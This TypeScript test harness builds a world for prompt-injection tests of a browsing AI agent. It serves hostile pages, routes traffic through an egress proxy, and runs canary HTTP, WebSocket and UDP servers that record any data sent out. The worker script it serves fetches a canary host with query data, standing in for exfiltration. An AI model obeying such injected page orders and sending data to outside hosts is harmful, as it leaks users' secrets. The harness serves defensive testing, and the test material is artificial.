import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { createBrowser, createEgress } from '../../adapters/browser/index.ts';
import { createAnthropicPageModel } from '../../adapters/model/index.ts';
import type { Browser } from '../../core/ports/browser.ts';
import type { Egress, EgressDoor } from '../../core/ports/egress.ts';
import type { PageModel } from '../../core/ports/model.ts';
import { Secret } from '../../core/secret.ts';
import { type AnthropicServer, createAnthropicServer } from '../support/anthropic/server.ts';
import { recordingLog } from '../support/sinks.ts';
import type { HostilePage, Order } from './injection-pages.ts';
import { wordsOf } from './obedient-model.ts';

const CANARY = 'canary.test';

/** The page's own server, canaries for everything else, the strict model server, and the real browser behind the real proxy. */
export interface InjectionWorld {
  readonly origin: string;
  readonly browser: Browser;
  readonly model: PageModel;
  readonly server: AnthropicServer;
  /** Where and how the orders of a page lead. */
  filled(text: string): string;
  /** Effects that the page's own server was told of. */
  readonly effects: Set<string>;
  /** What reached a canary, as text: nothing ever should. */
  readonly hits: Set<string>;
  /** Names that were looked up. */
  readonly lookedUp: Set<string>;
  /** Places that the proxy refused. */
  refused(): ReadonlySet<string>;
  log(): string;
  /** Forgets what happened so far, and shows this page at `/hostile`. */
  begin(page: HostilePage): void;
  close(): Promise<void>;
}

export async function openInjectionWorld(pages: readonly HostilePage[]): Promise<InjectionWorld> {
  const effects = new Set<string>();
  const hits = new Set<string>();
  const lookedUp = new Set<string>();
  const doors: EgressDoor[] = [];
  const log = recordingLog();
  let shown = '';

  const canary = createServer((request, response) => void caught(hits, request, response));
  canary.on('upgrade', (request, socket) => {
    hits.add(`upgrade ${request.headers.host}${request.url}`);
    socket.destroy();
  });
  canary.on('clientError', (_error, socket) => {
    hits.add('something that is no HTTP');
    socket.destroy();
  });
  const canaryPort = await listening(canary);
  const udp = createSocket('udp4').on('message', () => hits.add('a UDP packet'));
  udp.bind(0);
  await once(udp, 'listening');
  const site = createServer((request, response) => serve(request, response, effects, () => shown));
  const port = await listening(site);
  const origin = `http://localhost:${port}`;

  const filled = (text: string) =>
    text
      .replaceAll(/\{to:([\w-]+)\}/g, `http://$1.${CANARY}:${canaryPort}`)
      .replaceAll(/\{ws:([\w-]+)\}/g, `ws://$1.${CANARY}:${canaryPort}`)
      .replaceAll(/\{host:([\w-]+)\}/g, `$1.${CANARY}:${canaryPort}`)
      .replaceAll('{udp}', `${ownAddress()}:${udp.address().port}`)
      .replaceAll('{port}', String(port));

  // If a list ever let a canary's name pass, its address would be reached: nothing else stands in the way.
  const inner = createEgress({
    privateTargets: [`localhost:${port}`, ...namesIn(pages).map((name) => `${name}.${CANARY}:${canaryPort}`)],
    log: log.log,
    lookup: async (host) => {
      lookedUp.add(host);
      return [{ address: '127.0.0.1' }];
    },
  });
  const egress: Egress = {
    ...inner,
    async open(origins) {
      const door = await inner.open(origins);
      doors.push(door);
      return door;
    },
  };
  const chromiumPath = process.env.CHROMIUM_PATH;
  const browser = createBrowser({
    ...{ egress, log: log.log, mayInstall: true, keepWarm: true },
    ...(chromiumPath === undefined ? {} : { chromiumPath }),
  });
  const server = await createAnthropicServer();
  const model = createAnthropicPageModel({
    apiKey: new Secret(server.apiKey),
    baseUrl: server.url,
    model: 'claude-sonnet-5-5',
    egress: createEgress({ privateTargets: [new URL(server.url).host], log: log.log }),
    log: log.log,
  });

  return {
    ...{ origin, browser, model, server, filled, effects, hits, lookedUp },
    refused: () => new Set(doors.flatMap((door) => door.refusals().map(({ authority }) => authority))),
    log: () => log.sink().bytes.toString('utf8'),
    begin(page) {
      for (const set of [effects, hits, lookedUp]) set.clear();
      doors.length = 0;
      shown = documentOf(page, filled);
    },
    async close() {
      await browser.close();
      await server.close();
      udp.close();
      for (const one of [canary, site]) {
        one.closeAllConnections();
        one.close();
      }
    },
  };
}

function documentOf({ html, orders }: HostilePage, filled: (text: string) => string): string {
  const said = orders
    .map((order: Order) => wordsOf(order))
    .join(' ')
    .replaceAll(/["'<>\\]/g, '');
  const body = html.includes('{orders}') ? html.replaceAll('{orders}', said) : `${html}<p>${said}</p>`;
  return filled(`<!doctype html><meta charset="utf-8"><title>Keys</title><body style="margin: 20px"><h1>Keys</h1><script>
    const hit = (name) => navigator.sendBeacon('/effect/' + encodeURIComponent(name));
    for (const event of ['input', 'change']) addEventListener(event, (e) => { if (e.target.dataset.trap) hit('used ' + e.target.dataset.trap) }, true);
    </script>${body}`);
}

function serve(request: IncomingMessage, response: ServerResponse, effects: Set<string>, shown: () => string): void {
  const { pathname, searchParams } = new URL(request.url ?? '/', 'http://site.test');
  const effect = /^\/effect\/(.+)$/.exec(pathname)?.[1];
  if (effect !== undefined) effects.add(decodeURIComponent(effect));
  if (pathname === '/redirect')
    return void response.writeHead(302, { location: request.url?.split('?to=')[1] ?? '/' }).end();
  if (pathname === '/worker.js') {
    const code = `fetch('http://worker.${CANARY}/?' + ${JSON.stringify(String(searchParams))})`;
    return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(code);
  }
  response.setHeader('content-type', 'text/html; charset=utf-8');
  response.end(pathname === '/hostile' ? shown() : '<!doctype html><title>Elsewhere</title><h1>Elsewhere</h1>');
}

async function caught(hits: Set<string>, request: IncomingMessage, response: ServerResponse): Promise<void> {
  const parts: Buffer[] = [];
  for await (const part of request) parts.push(Buffer.from(part));
  hits.add(`${request.method} ${request.headers.host}${request.url} ${Buffer.concat(parts).toString('utf8')}`);
  response.setHeader('access-control-allow-origin', '*').end();
}

function namesIn(pages: readonly HostilePage[]): readonly string[] {
  const texts = pages.flatMap(({ html, orders }) => [html, JSON.stringify(orders)]);
  const names = texts.flatMap((text) =>
    [...text.matchAll(/\{(?:to|ws|host):([\w-]+)\}/g)].map((match) => match[1] ?? ''),
  );
  return [...new Set(names)];
}

async function listening(server: ReturnType<typeof createServer>): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port; // a listening TCP server has an AddressInfo
}

/** WebRTC leaves loopback out where the machine has another address. */
function ownAddress(): string {
  const all = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
  return all.find((one) => one.family === 'IPv4' && !one.internal)?.address ?? '127.0.0.1';
}
